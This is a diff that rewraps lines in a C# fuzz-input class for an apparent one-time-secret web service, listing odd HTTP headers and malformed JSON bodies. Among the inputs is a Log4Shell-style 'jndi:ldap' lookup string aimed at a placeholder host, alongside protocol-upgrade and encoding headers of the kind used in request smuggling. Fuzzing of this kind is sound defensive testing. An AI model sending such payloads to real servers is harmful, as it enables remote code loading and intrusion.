@@ -27,7 +27,8 @@ internal static class FuzzValues
         "Authorization: Basic b3duZXJAZXhhbXBsZS5jb206b3RzX3h4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4", "Last-Event-ID: 1",
         "Cookie: a=b; a=c; =; ;;", "Cookie: ots-session=CfDJ8garbage; ots-form=CfDJ8garbage", "Connection: keep-alive, X-Foo",
         "Upgrade: websocket", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", "Expect: 100-continue", "TE: trailers",
-        "Transfer-Encoding: identity", "Content-Encoding: gzip", "Content-Language: zz", "Sec-Purpose: prefetch", "DNT: 1", "X: \u00FF\u00FE",
+        "Transfer-Encoding: identity", "Content-Encoding: gzip", "Content-Language: zz", "Sec-Purpose: prefetch", "DNT: 1",
+        "X: \u00FF\u00FE",
         "User-Agent:", "User-Agent: ${jndi:ldap://x}", "Forwarded: for=\"_x\"", "Max-Forwards: 0", "Via: 1.1 x", "Priority: u=0",
     ];
 
@@ -45,10 +46,12 @@ internal static class FuzzValues
 
     private static readonly string[] Json =
     [
-        "{}", "[]", "null", "1", "\"", "{", "{\"secret\":", "{\"secret\":1}", "{\"secret\":null}", "{\"secret\":[]}", "{\"secret\":{\"a\":1}}",
+        "{}", "[]", "null", "1", "\"", "{", "{\"secret\":", "{\"secret\":1}", "{\"secret\":null}", "{\"secret\":[]}",
+        "{\"secret\":{\"a\":1}}",
         "{\"secret\":\"\\ud800\"}", "{\"secret\":\"\\u0000\"}", "{\"secret\":\"a\",\"secret\":\"b\"}", "{\"secret\":\"a\",\"ttl\":1e999}",
         "{\"secret\":\"a\",\"ttl\":-0.0}", "{\"secret\":\"a\",\"ttl\":\"x\"}", "{\"secret\":\"a\",\"recipient\":[1,null,{}]}",
-        "{\"secret\":\"a\",\"character_sets\":{\"lowercase\":\"maybe\"}}", "{\"length\":99999999999}", "{\"length\":true}", "{\"a\":\u00FF}",
+        "{\"secret\":\"a\",\"character_sets\":{\"lowercase\":\"maybe\"}}", "{\"length\":99999999999}", "{\"length\":true}",
+        "{\"a\":\u00FF}",
         "[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]", "{\"secret\":\"a\"}x", "{\"passphrase\":\"a\"}", "{'secret':'a'}", "NaN",
     ];
 
